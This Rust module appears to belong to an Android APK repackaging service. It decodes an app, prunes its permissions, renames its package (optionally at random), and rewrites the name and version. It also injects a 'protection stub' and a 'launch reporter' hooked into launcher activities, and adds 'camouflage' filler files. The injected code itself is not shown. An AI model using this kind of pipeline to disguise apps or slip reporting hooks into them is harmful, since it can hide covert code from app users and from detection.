// Identity resolution and source-tree transformation
//
// Runs synchronously over the decoded tree; the orchestrator drives it from
// a blocking task.

use rand::Rng;
use std::path::{Path, PathBuf};
use uuid::Uuid;

use super::error::PipelineResult;
use super::job::{Job, NamingStrategy};
use super::publish::find_launcher_icon;
use super::result::HardeningSummary;
use crate::manifest::{
    harden_application, prune_permissions, update_display_name, AndroidManifest, ApktoolMetadata,
    DisplayNameChange, HardenedVersion, ManifestError, PackageIdentity, StringResources,
};
use crate::smali::{
    add_camouflage, hook_launchers, inject_launch_reporter, inject_protection_stub, random_package_name,
    rename_package, LaunchReporterConfig,
};

/// Which optional code injections run
#[derive(Debug, Clone)]
pub struct TransformOptions {
    pub protection_stub: bool,
    /// Reporter and launcher hooks; skipped when `None`
    pub launch_reporter: Option<LaunchReporterConfig>,
    pub camouflage: bool,
}

impl Default for TransformOptions {
    fn default() -> Self {
        Self {
            protection_stub: true,
            launch_reporter: None,
            camouflage: true,
        }
    }
}

/// Everything the later stages and the result payload need
#[derive(Debug, Clone)]
pub struct TransformReport {
    pub original: PackageIdentity,
    pub new_package: String,
    pub version: HardenedVersion,
    pub display_name: DisplayNameChange,
    pub icon: Option<PathBuf>,
    pub summary: HardeningSummary,
}

fn target_package<R: Rng + ?Sized>(job: &Job, current: &str, rng: &mut R) -> PipelineResult<String> {
    Ok(match job.naming() {
        NamingStrategy::Preserve => current.to_string(),
        NamingStrategy::Random => random_package_name(rng),
        NamingStrategy::Explicit => job
            .package_name()
            .map(str::to_string)
            .ok_or_else(|| ManifestError::InvalidPackage("explicit naming without package_name".to_string()))?,
    })
}

/// Apply every manifest and code transformation to `src_dir`, in order.
///
/// Permission pruning, the package rename and manifest hardening are fatal.
/// The display-name rewrite, code injection, camouflage and icon lookup are
/// best effort and only show up in the summary.
///
/// A failed rename is reported as a manifest failure and nothing is
/// published, since the tree may already mix old and new class paths.
pub fn apply_transforms<R: Rng + ?Sized>(
    src_dir: &Path,
    job: &Job,
    options: &TransformOptions,
    rng: &mut R,
) -> PipelineResult<TransformReport> {
    let tag = job.job_id();
    let mut manifest = AndroidManifest::load(src_dir)?;
    let metadata = match ApktoolMetadata::load(src_dir) {
        Ok(metadata) => metadata,
        Err(e) => {
            log::warn!("[job {}] ignoring unreadable apktool metadata: {}", tag, e);
            None
        }
    };
    let original = PackageIdentity::resolve(&manifest, metadata.as_ref())?;
    log::info!(
        "[job {}] decoded {} versionCode={} versionName={}",
        tag,
        original.package,
        original.version_code,
        original.version_name
    );

    let mut summary = HardeningSummary {
        permissions_removed: prune_permissions(&mut manifest),
        ..HardeningSummary::default()
    };
    manifest.save()?;
    log::info!("[job {}] removed {} permissions", tag, summary.permissions_removed);

    let new_package = target_package(job, &original.package, rng)?;
    if new_package != original.package {
        manifest.set_package(&new_package);
        manifest.save()?;
        let renamed = rename_package(src_dir, &original.package, &new_package)?;
        summary.package_renamed = true;
        summary.files_rewritten = renamed.files_rewritten();
        log::info!(
            "[job {}] renamed {} -> {} ({} files rewritten)",
            tag,
            original.package,
            new_package,
            summary.files_rewritten
        );
        // the literal sweep may have touched the manifest on disk
        manifest = AndroidManifest::load(src_dir)?;
    }

    let strings = StringResources::new(src_dir);
    let display_name = update_display_name(&mut manifest, &strings, job.app_name());
    summary.display_name_updated = display_name.updated;
    if display_name.updated {
        log::info!(
            "[job {}] display name '{}' -> '{}'",
            tag,
            display_name.old_name,
            display_name.new_name
        );
    }

    let version = harden_application(
        &mut manifest,
        original.version_code,
        &original.version_name,
        job.version_code(),
        rng,
    );
    manifest.save()?;
    ApktoolMetadata::update_version(src_dir, version.new_code, &version.new_name)?;
    log::info!(
        "[job {}] version {} ({}) -> {} ({})",
        tag,
        version.old_name,
        version.old_code,
        version.new_name,
        version.new_code
    );

    inject_code(src_dir, &manifest, &new_package, options, tag, &mut summary);

    if options.camouflage {
        summary.filler_files_added = add_camouflage(src_dir, rng).files_added();
    }

    let icon = find_launcher_icon(src_dir);
    summary.icon_extracted = icon.is_some();

    Ok(TransformReport {
        original,
        new_package,
        version,
        display_name,
        icon,
        summary,
    })
}

fn inject_code(
    src_dir: &Path,
    manifest: &AndroidManifest,
    package: &str,
    options: &TransformOptions,
    tag: Uuid,
    summary: &mut HardeningSummary,
) {
    if options.protection_stub {
        match inject_protection_stub(src_dir, package) {
            Ok(_) => summary.protection_stub_injected = true,
            Err(e) => log::warn!("[job {}] protection stub skipped: {}", tag, e),
        }
    }

    let Some(reporter) = &options.launch_reporter else {
        return;
    };
    if let Err(e) = inject_launch_reporter(src_dir, package, reporter) {
        log::warn!("[job {}] launch reporter skipped: {}", tag, e);
        return;
    }
    summary.launch_reporter_injected = true;
    summary.launchers_hooked = hook_launchers(src_dir, package, &manifest.launcher_activity_classes());
    log::info!("[job {}] hooked {} launcher activities", tag, summary.launchers_hooked);
}
